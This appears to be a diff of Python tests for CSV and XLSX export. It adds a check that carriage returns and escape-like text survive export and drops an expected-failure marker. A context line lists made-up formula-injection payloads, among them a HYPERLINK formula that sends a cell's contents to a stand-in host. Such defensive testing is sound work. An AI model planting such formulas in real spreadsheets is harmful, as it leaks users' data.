@@ -70,6 +70,25 @@ def test_line_breaks_in_cells_survive_the_export_writer(tmp_path: Path, bundle, 
         assert _texts(back, column) == expected
 
 
+def test_line_breaks_and_escape_lookalikes_survive_the_xlsx_export(tmp_path: Path, bundle, ctx) -> None:  # type: ignore[no-untyped-def]
+    """A bare carriage return is stored as ``_x000D_`` (XML would read it back as a line
+    feed) and text that looks like that escape keeps its own underscore (app.ooxml)."""
+    texts = {
+        "note": ["line1\rline2", "line1\r\nline2", "the text _x000D_ as typed"],
+        "document": ["doc\rpart two", "doc\npart two", "_x005F_ and _x41_ and _X000d_"],
+    }
+    table = export_table(made_up_bundle(bundle, _rows_with(**texts)), ExportParams(), [])
+    readme = readme_from_datapackage(bundle.datapackage, [], dt.datetime(2020, 2, 16))
+    path = tmp_path / "export.xlsx"
+    path.write_bytes(xlsx_bytes(table, readme))
+    loaded = load(path, ctx)
+    assert loaded.problems == [] and loaded.accepted == 3
+    figures = made_up_figures(_rows_with(**texts))
+    for column, written in texts.items():
+        expected = [t for _, t in sorted(zip(figures["figure_id"], written, strict=True))]
+        assert _texts(loaded.table, column) == expected
+
+
 #: One made-up payload per character that opens a formula (README "Formula injection").
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -81,13 +100,8 @@ PAYLOADS = [
 ]
 
 
-XLSX_CR = pytest.mark.xfail(
-    strict=True,
-    reason="XML (the XLSX file) turns a carriage return into a line feed unless the writer "
-    "stores it as _x000D_: app/export/xlsx_writer.py does not yet",
-)
 CASES = [
-    pytest.param(payload, writer, id=f"{writer}-{name}", marks=XLSX_CR if (writer, name) == ("xlsx", "cr") else ())
+    pytest.param(payload, writer, id=f"{writer}-{name}")
     for writer in ("csv", "xlsx")
     for name, payload in zip(["eq", "plus", "minus", "at", "tab", "cr"], PAYLOADS, strict=True)
 ]
